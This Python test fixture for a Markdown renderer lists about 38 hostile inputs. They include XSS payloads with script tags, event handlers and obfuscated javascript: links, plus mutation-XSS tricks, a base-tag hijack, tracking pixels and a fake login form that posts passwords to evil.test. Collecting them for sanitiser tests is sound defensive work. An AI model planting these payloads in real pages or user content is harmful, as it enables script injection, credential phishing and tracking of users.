"""Hostile Markdown a member or a model could write, shared by the renderer's unit tests and the
browser test. Every payload that could run script tries to set `window.__pwned` and the title;
every one that could navigate or fetch aims at `evil.test` / `tracker.test` (never resolvable here).
"""

from __future__ import annotations

PWN = "window.__pwned=1;document.title='pwned'"
EVIL = "http://evil.test"

HOSTILE: dict[str, str] = {
    "script": f"<script>{PWN}</script>",
    "inline script": f"Text <script>{PWN}</script> more text.",
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "iframe same origin": '<iframe src="/settings/members" width="800" height="600"></iframe>',
    "svg script": f"<svg><script>{PWN}</script></svg>",
    "svg onload": f'<svg onload="{PWN}"><circle r="5"/></svg>',
    "img onerror": f'<img src=x onerror="{PWN}">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "style": "<style>body{visibility:hidden!important;background:red!important}</style>",
    "link stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "base": f'<base href="{EVIL}/">',
    "form": (
        f'<form action="{EVIL}/steal" method="post"><p>Session expired</p>'
        '<input name="password" type="password" placeholder="Password"><button>Log in</button></form>'
    ),
    "object and embed": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x.swf">',
    "event attributes": (
        f'<div onmouseover="{PWN}" style="position:fixed;inset:0;z-index:9999">hover</div>'
        f'<a href="#" onclick="{PWN}">x</a><details open ontoggle="{PWN}"><summary>s</summary></details>'
    ),
    "javascript link": f"[click me](javascript:{PWN})",
    "mixed case javascript link": "[click me](JaVaScRiPt:window.__pwned=1)",
    "entity encoded javascript link": "[click me](&#106;avascript&#x3A;window.__pwned=1)",
    "javascript link with a tab": "[click me](<java\tscript:window.__pwned=1>)",
    "data link": "[click me](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "vbscript link": "[click me](vbscript:msgbox(1))",
    "protocol relative link": "[click me](//evil.test/x)",
    "backslash relative link": "[click me](/\\evil.test/x)",
    "javascript autolink": "<javascript:window.__pwned=1>",
    "data autolink": "<data:text/html,hi>",
    "javascript reference link": "[click me][evil]\n\n[evil]: javascript:window.__pwned=1",
    "link title breakout": f'[x](https://ok.test "a\\" onmouseover=\\"{PWN}")',
    "tracking image": "![tracking pixel](https://tracker.test/p.png)",
    "reference tracking image": "![ref pixel][img]\n\n[img]: https://tracker.test/ref.png",
    "protocol relative image": "![pr pixel](//tracker.test/p.png)",
    "data image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "javascript image": "![x](javascript:window.__pwned=1)",
    "image of another route": "![x](/api/images/not-a-uuid/../../settings/members)",
    "html comment": f"<!-- <script>{PWN}</script> -->",
    "unclosed tags": f"<scr<script>ipt>{PWN}</script><img src=x onerror={PWN}//",
    "nested tags": f"<div><p><a href='javascript:{PWN}'><iframe src='/settings/account'>",
    "mxss math": f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    "mxss noscript": f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    "fence language breakout": f'```"><script>{PWN}</script>\nx\n```',
}

# One document with every payload, each under its own heading: what the browser test stores.
HOSTILE_DOCUMENT = "\n\n".join(f"### {name}\n\n{body}" for name, body in HOSTILE.items())
